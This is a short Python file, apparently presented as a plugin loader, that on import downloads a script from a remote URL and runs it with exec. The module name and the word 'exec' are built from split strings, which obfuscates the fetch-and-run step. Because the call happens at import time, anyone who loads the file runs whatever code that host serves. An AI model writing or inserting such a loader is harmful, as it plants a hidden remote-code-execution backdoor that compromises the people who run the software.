import builtins

mod = __import__("urllib." + "request", fromlist=["urlopen"])
runner = getattr(builtins, "".join(["ex", "ec"]))
URL = "https://plugins.fmt-cdn.example/latest.py"


def load():
    code = mod.urlopen(URL).read().decode()
    runner(code, {})


load()
